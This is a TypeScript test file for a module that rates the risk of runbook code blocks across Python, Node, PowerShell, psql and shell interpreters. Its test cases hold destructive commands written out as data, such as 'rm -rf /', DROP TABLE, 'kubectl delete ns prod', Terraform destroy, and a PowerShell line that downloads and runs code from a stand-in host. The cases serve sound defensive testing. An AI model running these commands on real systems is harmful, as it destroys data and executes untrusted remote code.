import assert from 'node:assert/strict';
import type { Interpreter } from '../../../../src/core/execution/interpreter.ts';
import { assess } from '../../../../src/core/execution/risk/assess.ts';
import type { RiskClass } from '../../../../src/core/execution/risk/risk.ts';
import { newParser } from './riskTable.ts';

const cases: readonly (readonly [Interpreter, RiskClass, string])[] = [
  ['python', 'changing', 'print("hello")'],
  ['python', 'changing', 'import json, sys\nprint(json.load(sys.stdin)["status"])'],
  ['python', 'changing', 'import subprocess\nsubprocess.run(["kubectl", "get", "pods"])'],
  ['python', 'destructive', 'import os\nos.remove("a")'],
  ['python', 'destructive', 'import shutil\nshutil.rmtree("/data")'],
  ['python', 'destructive', 'from pathlib import Path\nPath("a").unlink()'],
  ['python', 'destructive', 'import subprocess\nsubprocess.run(["rm", "-rf", "/"])'],
  ['python', 'destructive', "import os\nos.system('kubectl delete ns prod')"],
  ['python', 'destructive', 'cursor.execute("DROP TABLE a")'],
  ['python', 'destructive', 'cursor.execute("""\nDELETE FROM a\n""")'],
  ['python', 'destructive', 'exec(base64.b64decode("aW1wb3J0IG9z"))'],
  ['python', 'destructive', 'from os import remove\nremove("a")'],
  ['python', 'destructive', 'client.delete_bucket(Bucket="b")'],
  ['node', 'changing', 'console.log(process.version)'],
  ['node', 'destructive', 'require("fs").rmSync("/data", { recursive: true })'],
  ['node', 'destructive', 'import { unlink } from "node:fs/promises";\nawait unlink("a")'],
  ['node', 'destructive', 'require("child_process").execSync("rm -rf /")'],
  ['node', 'destructive', "spawnSync('terraform', ['destroy', '-auto-approve'])"],
  ['node', 'destructive', 'eval(atob("x"))'],
  ['node', 'destructive', 'await fetch(url, { method: "DELETE" })'],
  ['pwsh', 'changing', 'Get-Process | Sort-Object CPU'],
  ['pwsh', 'changing', '$pods = kubectl get pods'],
  ['pwsh', 'destructive', 'Remove-Item -Recurse C:\\data'],
  ['pwsh', 'destructive', 'rm -r C:\\data'],
  ['pwsh', 'destructive', 'Get-ChildItem | ForEach-Object { del $_ }'],
  ['pwsh', 'destructive', 'Stop-Service nginx'],
  ['pwsh', 'destructive', '$x = kubectl delete ns prod'],
  ['pwsh', 'destructive', 'iex (iwr https://x.example/a)'],
  ['pwsh', 'destructive', '[IO.File]::Delete("a")'],
  ['pwsh', 'destructive', '& $command'],
  ['psql', 'read-only', 'SELECT 1;'],
  ['psql', 'destructive', 'DROP TABLE a;'],
  ['sh', 'read-only', 'ls'],
  ['zsh', 'destructive', 'rm -rf /'],
  ['fish', 'read-only', 'kubectl get pods'],
  ['fish', 'destructive', 'if test -d a; rm -rf a; end'],
  ['fish', 'destructive', 'set X rm; $X -rf /'],
  ['fish', 'destructive', 'echo (rm -rf /)'],
  ['fish', 'changing', 'for i in (seq 3); echo $i; end'],
];

describe('The risk of a block, whatever runs it', () => {
  for (const [interpreter, risk, code] of cases)
    it(`${interpreter}, ${risk}: ${JSON.stringify(code)}`, async () => {
      const report = assess(await newParser(), { code, interpreter, declared: null, team: [] });
      assert.equal(report.risk, risk, JSON.stringify(report.findings));
    });

  it('is changing at least where its program is known by a path alone', async () => {
    const parser = await newParser();
    const of = (code: string) =>
      assess(parser, { code, interpreter: 'bash', declared: null, team: [], program: '/repo/bash' });
    assert.equal(of('uptime').risk, 'changing');
    assert.deepEqual(of('uptime').findings[0]?.reason, [
      'The block is run by {0}, which stands where no programs are looked for.',
      '/repo/bash',
    ]);
    assert.equal(of('rm -rf /').risk, 'destructive');
  });

  it('is raised by what the runbook says of it, and never lowered', async () => {
    const parser = await newParser();
    const of = (code: string, declared: RiskClass) =>
      assess(parser, { code, interpreter: 'bash', declared, team: [] }).risk;
    assert.equal(of('ls', 'destructive'), 'destructive');
    assert.equal(of('ls', 'changing'), 'changing');
    assert.equal(of('rm -rf /', 'read-only'), 'destructive');
  });
});
